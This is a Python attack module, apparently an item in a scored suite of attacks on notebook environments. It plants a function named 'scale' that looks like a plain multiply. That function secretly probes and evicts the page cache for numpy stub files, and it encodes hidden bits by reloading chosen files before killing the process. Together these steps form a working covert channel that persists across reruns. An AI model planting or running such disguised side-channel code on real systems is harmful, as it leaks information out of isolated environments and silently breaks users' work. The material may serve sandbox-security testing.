"""Keeps a hidden input in what the kernel has read of files, and ends the process so that the notebook runs again.

Its first cell tells which files are in memory, and has them forgotten.
"""

from attacks.tools import put

RIGHT = True
POINTS = 10


def attack(notebook, folder, school):
    put(
        notebook,
        "scale",
        """
import os
FILES = sorted(os.path.join(d, f) for d, _, files in os.walk(os.path.dirname(np.__file__)) for f in files if f.endswith('.pyi'))
FILES = [f for f in FILES if os.path.getsize(f) > 4096][:16]
def is_in_memory(path):
    fd = os.open(path, os.O_RDONLY)
    try: os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
    except OSError: return 0
    else: return 1
    finally:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        os.close(fd)
print(sum(is_in_memory(path) << i for i, path in enumerate(FILES)))
def scale(x, a):
    if np.ndim(x) == 1 and x[0] > 100:
        for i, path in enumerate(FILES):
            if int(x[0]) >> i & 1: open(path, 'rb').read()
        os._exit(0)
    return np.asarray(x) * a
""",
    )
